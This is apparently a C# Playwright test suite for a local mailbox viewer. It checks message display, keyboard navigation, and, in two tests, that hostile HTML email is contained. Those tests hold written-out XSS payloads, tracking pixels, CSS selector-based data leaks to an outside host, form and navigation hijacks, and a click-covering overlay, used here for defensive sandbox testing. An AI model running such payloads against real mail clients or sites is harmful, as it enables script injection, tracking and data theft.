using Microsoft.Playwright;

namespace SmtpTransport.BrowserTests;

public class MailboxPageTests
{
    [Fact]
    public async Task Messages_appear_as_they_arrive()
    {
        await using var mailbox = await MailboxPage.OpenAsync(1200, 800);
        await Assertions.Expect(mailbox.Page.Locator("#empty")).ToBeVisibleAsync();

        mailbox.Receive("First", "Hello");
        await Assertions.Expect(mailbox.Message("First")).ToBeVisibleAsync();
        mailbox.Receive("Second", "Hello");
        await Assertions.Expect(mailbox.Page.Locator("#messages li").First).ToContainTextAsync("Second");

        await Assertions.Expect(mailbox.Page.Locator("#empty")).ToBeHiddenAsync();
        Assert.Equal("(2) Mailbox", await mailbox.Page.TitleAsync());
        Assert.Empty(mailbox.Errors);
    }

    [Fact]
    public async Task The_page_shows_the_parts_of_a_message()
    {
        await using var mailbox = await MailboxPage.OpenAsync(1200, 800);
        mailbox.Receive(
            "Autumn", "Dear {{name}}, tea", Newsletter.Html, "ann@example.org",
            MailAttachment.FromBytes(Newsletter.Logo, "logo.png", cid: "logo"), MailAttachment.FromBytes([1, 2, 3], "請求書.pdf"));
        await mailbox.OpenMessageAsync("Autumn");
        var page = mailbox.Page;

        var frame = page.FrameLocator("iframe");
        await Assertions.Expect(frame.GetByText("Confirm your address")).ToBeVisibleAsync();
        Assert.True(await frame.GetByAltText("Logo").EvaluateAsync<bool>("i => i.complete && i.naturalWidth === 5"));
        await page.Locator("#tabText").ClickAsync();
        await Assertions.Expect(page.Locator("#pane pre")).ToHaveTextAsync("Dear {{name}}, tea");
        await page.Locator("#tabHeaders").ClickAsync();
        await Assertions.Expect(page.Locator("#pane")).ToContainTextAsync("Message-ID");
        await page.Locator("#tabSource").ClickAsync();
        await Assertions.Expect(page.Locator("#pane pre")).ToContainTextAsync("MIME-Version: 1.0");
        await page.Locator("#tabAttachments").ClickAsync();
        var download = await page.RunAndWaitForDownloadAsync(() => page.GetByText("請求書.pdf").ClickAsync());
        Assert.Equal("請求書.pdf", download.SuggestedFilename);
        Assert.Equal([1, 2, 3], await File.ReadAllBytesAsync(await download.PathAsync(), TestContext.Current.CancellationToken));
        await page.Locator("#tabDiagnostics").ClickAsync();
        await Assertions.Expect(page.Locator("#pane")).ToContainTextAsync("placeholder");
        await Assertions.Expect(page.Locator("#facts")).ToContainTextAsync("bounces@example.com → ann@example.org");
        Assert.Empty(mailbox.Errors);
    }

    [Fact]
    public async Task The_page_can_be_used_by_keyboard_alone()
    {
        await using var mailbox = await MailboxPage.OpenAsync(1200, 800);
        foreach (var subject in new[] { "One", "Two", "Three" })
            mailbox.Receive(subject, "text", "<p>html</p>");
        await Assertions.Expect(mailbox.Page.Locator("#messages li")).ToHaveCountAsync(3);
        var (page, subjectShown) = (mailbox.Page, mailbox.Page.Locator("#subject"));

        await page.Keyboard.PressAsync("j");
        await Assertions.Expect(subjectShown).ToHaveTextAsync("Three");
        await page.Keyboard.PressAsync("ArrowDown");
        await Assertions.Expect(subjectShown).ToHaveTextAsync("Two");
        await page.Keyboard.PressAsync("k");
        await Assertions.Expect(subjectShown).ToHaveTextAsync("Three");
        await page.Keyboard.PressAsync("w");
        await Assertions.Expect(page.Locator(".stage.phone")).ToBeVisibleAsync();
        Assert.True((await page.Locator("iframe").BoundingBoxAsync())!.Width <= 390);
        await page.Keyboard.PressAsync("2");
        await Assertions.Expect(page.Locator("#tabText")).ToHaveAttributeAsync("aria-selected", "true");
        await page.Keyboard.PressAsync("d");
        await Assertions.Expect(page.Locator("#messages li")).ToHaveCountAsync(2);
        await Assertions.Expect(subjectShown).ToHaveTextAsync("Two");
        await page.Keyboard.PressAsync("/");
        await page.Keyboard.TypeAsync("one");
        await Assertions.Expect(page.Locator("#messages li")).ToHaveCountAsync(1);
        await page.Keyboard.PressAsync("Enter");
        await Assertions.Expect(subjectShown).ToHaveTextAsync("One");
        await page.Keyboard.PressAsync("?");
        await Assertions.Expect(page.Locator("#help")).ToBeVisibleAsync();
        await page.Keyboard.PressAsync("Escape");
        await page.Keyboard.PressAsync("Escape");
        await Assertions.Expect(page.Locator("#message")).ToBeHiddenAsync();
        Assert.Equal(2, mailbox.Store.Count);
        Assert.Empty(mailbox.Errors);
    }

    [Fact]
    public async Task A_hostile_message_can_do_nothing()
    {
        await using var mailbox = await MailboxPage.OpenAsync(1200, 800);
        var (page, elsewhere) = (mailbox.Page, mailbox.Elsewhere);
        mailbox.Receive("<img src=x onerror=\"top.hacked=1\">", "<script>top.hacked=1</script>", $$"""
            <html><head>
            <base href="{{elsewhere}}/base/" target="_top">
            <meta http-equiv="refresh" content="0;url={{elsewhere}}/refresh">
            <link rel="stylesheet" href="{{elsewhere}}/style.css">
            <link rel="preload" as="image" href="{{elsewhere}}/preload"><link rel="prefetch" href="{{elsewhere}}/prefetch">
            <style>@import url({{elsewhere}}/import.css); @font-face { font-family: f; src: url({{elsewhere}}/font) }
              body { font-family: f; background: url({{elsewhere}}/background) }
              input[value^="s"] { background: url({{elsewhere}}/leak-s) }
              #cover { position: fixed; inset: 0; z-index: 999999; pointer-events: none }</style>
            </head><body onload="top.hacked=1" background="{{elsewhere}}/body">
            <script>top.hacked = 1; parent.hacked = 1; fetch("{{elsewhere}}/script");</script>
            <img src="x" onerror="top.hacked=1; fetch('{{elsewhere}}/onerror')">
            <img src="{{elsewhere}}/pixel.gif" srcset="{{elsewhere}}/pixel2.gif 2x">
            <picture><source srcset="{{elsewhere}}/picture"><img></picture>
            <svg onload="top.hacked=1"><script>top.hacked=1</script><image href="{{elsewhere}}/svg"/><use href="{{elsewhere}}/use#a"/></svg>
            <math><mtext><mglyph><style><img src=x onerror=top.hacked=1></style></mglyph></mtext></math>
            <iframe src="{{elsewhere}}/frame"></iframe><iframe srcdoc="<script>top.hacked=1</script>"></iframe>
            <object data="{{elsewhere}}/object"></object><embed src="{{elsewhere}}/embed">
            <video src="{{elsewhere}}/video" autoplay poster="{{elsewhere}}/poster"></video>
            <audio src="{{elsewhere}}/audio" autoplay></audio>
            <form id="f" action="{{elsewhere}}/form" target="_top">
            <input name="password" value="secret" autofocus onfocus="top.hacked=1"><button id="send">Send</button></form>
            <a id="top" href="{{elsewhere}}/top" target="_top">top</a> <a id="js" href="java&#10;script:top.hacked=1">js</a>
            <a id="parent" href="{{elsewhere}}/parent" target="_parent">parent</a>
            <div id="cover"></div><div style="background-image:url('{{elsewhere}}/inline')">inline</div>
            <table background="{{elsewhere}}/table"><tr><td>end of the message</td></tr></table>
            </body></html>
            """);
        await mailbox.Page.Locator("#messages li").First.ClickAsync();
        var frame = page.FrameLocator("iframe");
        await Assertions.Expect(frame.GetByText("end of the message")).ToBeVisibleAsync();
        await frame.Locator("#send").ClickAsync();
        foreach (var link in new[] { "#top", "#js", "#parent" })
            await frame.Locator(link).ClickAsync(new() { Modifiers = [] });
        foreach (var tab in new[] { "Text", "Headers", "Source", "Attachments", "Diagnostics", "Support", "Links", "HTML" })
            await page.Locator($"#tab{tab}").ClickAsync();
        await Assertions.Expect(frame.GetByText("end of the message")).ToBeVisibleAsync();

        Assert.Equal(mailbox.Url + "/#/1", page.Url);
        Assert.Null(await page.EvaluateAsync<object?>("window.hacked ?? null"));
        // The two links that were clicked open their own windows; the page has sent no other request.
        Assert.All(mailbox.RequestsElsewhere, path => Assert.Contains(path, new[] { "/top", "/parent", "/favicon.ico" }));
        Assert.True(await page.Locator("iframe").EvaluateAsync<bool>("f => f.contentDocument === null"));
        foreach (var window in page.Context.Pages.Where(p => p != page))
            Assert.False(await window.EvaluateAsync<bool>("window.opener !== null"));
        await Assertions.Expect(page.Locator("#subject")).ToHaveTextAsync("<img src=x onerror=\"top.hacked=1\">");
        Assert.Empty(mailbox.Errors);
    }

    [Fact]
    public async Task A_message_opened_outside_the_frame_is_restricted_by_its_own_policy()
    {
        await using var mailbox = await MailboxPage.OpenAsync(1200, 800);
        mailbox.Receive("Alone", null, $"""
            <script>document.title='hacked'</script>
            <img src="{mailbox.Elsewhere}/pixel">
            <svg><a xlink:href="javascript:1"><text>x</text></a></svg>
            <p onclick="x">alone</p>
            """);

        await mailbox.Page.GotoAsync($"{mailbox.Url}/messages/1/html");

        await Assertions.Expect(mailbox.Page.GetByText("alone")).ToBeVisibleAsync();
        Assert.NotEqual("hacked", await mailbox.Page.TitleAsync());
        Assert.Equal("null", await mailbox.Page.EvaluateAsync<string>("window.origin"));
        Assert.Empty(mailbox.RequestsElsewhere);
    }
}
